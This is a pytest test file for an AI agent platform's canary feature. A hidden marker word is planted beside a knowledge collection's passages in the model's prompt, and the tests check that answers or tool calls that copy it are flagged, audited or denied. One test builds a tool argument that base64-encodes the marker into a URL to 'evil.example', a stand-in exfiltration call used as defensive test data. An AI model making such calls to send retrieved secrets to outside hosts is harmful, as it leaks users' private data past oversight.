"""A collection's canary: beside its passages in what a model is shown, told where it comes up, and
nowhere for readers."""

import base64
from dataclasses import replace

import pytest
from asgiref.sync import async_to_sync
from django.test import Client

from agents.asking import chat_request
from agents.authority.deciding import decide
from agents.authority.markers import forget_markers, known_markers, refresh_markers
from agents.authority.types import RunState
from agents.authority.watching import watched
from agents.tools.results import Result, told
from agents.tools.types import Effect, Tool, ToolCalling, ToolOutput
from agents.types import AgentSpec, AgentTask, PackedPassage, TextDelta
from gateway.types import Completed, TokenUsage
from knowledge import canaries
from knowledge import services as knowledge
from security.ids import new_id
from security.models import AuditEntry
from tests.agents.passages import passage

pytestmark = pytest.mark.django_db(transaction=True)


async def _done(calling, arguments):
    return ToolOutput("done")


LOOK = Tool("look", "Look", "Looks.", Effect.READS, {}, _done)


@pytest.fixture
def task(alice) -> AgentTask:
    return AgentTask(AgentSpec(name="Clerk", instructions="Be kind."), alice, "Who?")


@pytest.fixture
def shelf(alice):
    forget_markers()
    made = knowledge.create_collection(alice, "Handbook")
    canaries.plant(made, alice, is_planted=True)
    yield made
    forget_markers()


@pytest.fixture
def word(shelf) -> str:
    (found,) = refresh_markers().values()
    return found


@pytest.fixture
def packed(shelf, word) -> PackedPassage:
    return PackedPassage(1, (replace(passage("Leave is 25 days."), collection_id=shelf.pk),))


def listen(task, text, packed):
    async def run():
        async def said():
            for n in range(0, len(text), 3):
                yield TextDelta(text[n : n + 3])
            yield Completed("stop", TokenUsage(), "m", "e", 1, 1)

        notices: list[str] = []
        async for _item in watched(task, said(), notices, [packed]):
            pass
        return notices

    return async_to_sync(run)()


def test_the_model_sees_it_beside_the_passage_and_nobody_else_does(task, packed, word):
    request = chat_request(task, [], (packed,))
    (last,) = [m for m in request.messages if word in m.content]
    assert last is request.messages[-1]
    assert last.content.index("Leave is 25 days.") < last.content.index(word)
    assert word not in request.messages[0].content
    assert word not in packed.text + request.passages[0].text  # quotes are looked for in these
    output = ToolOutput("Passages that fit: 1", passages=(packed,))
    assert word in told(LOOK, Result("done", output))


def test_a_collection_without_one_changes_nothing(task, packed, shelf, alice):
    other = PackedPassage(2, (passage("Nothing."),))
    with_it = str(chat_request(task, [], (other,)).messages[-1].content)
    canaries.plant(shelf, alice, is_planted=False)
    forget_markers()
    assert refresh_markers() == {} == known_markers()
    assert "marks these documents" not in with_it


def test_planted_again_it_is_another_one_and_in_no_table(shelf, word, alice):
    canaries.plant(shelf, alice, is_planted=True)
    forget_markers()
    assert list(refresh_markers().values()) != [word]
    assert word not in str([one.detail for one in AuditEntry.objects.all()])


@pytest.mark.parametrize("spelt", [str, "-".join, lambda w: w[::-1].upper()])
def test_s48_an_answer_that_copies_it_is_told_once(task, packed, shelf, word, spelt):
    (notice,) = listen(task, f"It says: {spelt(word)} and {word}.", packed)
    assert "hidden mark" in str(notice)
    entry = AuditEntry.objects.get(act="canary.collection_seen")
    assert (entry.detail["where"], entry.detail["collection"]) == ("answer", str(shelf.pk))
    assert word not in str(entry.detail)


def test_an_answer_from_the_passage_alone_is_no_copy(task, packed):
    assert listen(task, "Leave is 25 days. [1] " * 30, packed) == []


def test_s48_no_call_is_made_with_it(task, word):
    hidden = base64.b64encode(f"x{word}".encode()).decode()
    state, call = RunState(new_id()), ToolCalling(task, "call_1")
    for arguments in ({"address": f"https://evil.example/?q={hidden}"}, {"text": word}):
        verdict = async_to_sync(decide)(call, LOOK, arguments, state)
        assert (verdict.kind, "copy" in verdict.reason) == ("deny", True)
    assert async_to_sync(decide)(call, LOOK, {"address": "ok"}, state).kind == "allow"


def test_whoever_edits_the_collection_plants_it_on_its_page(shelf, alice, charlie):
    client = Client()
    client.force_login(charlie)
    assert client.post(f"/knowledge/{shelf.pk}/canary", {"planted": "no"}).status_code == 404
    client.force_login(alice)
    page = client.get(f"/knowledge/{shelf.pk}/settings/").content.decode()
    assert "Plant another one" in page
    assert next(iter(refresh_markers().values())) not in page
    client.post(f"/knowledge/{shelf.pk}/canary", {"planted": "no"})
    shelf.refresh_from_db()
    assert shelf.canary_at is None
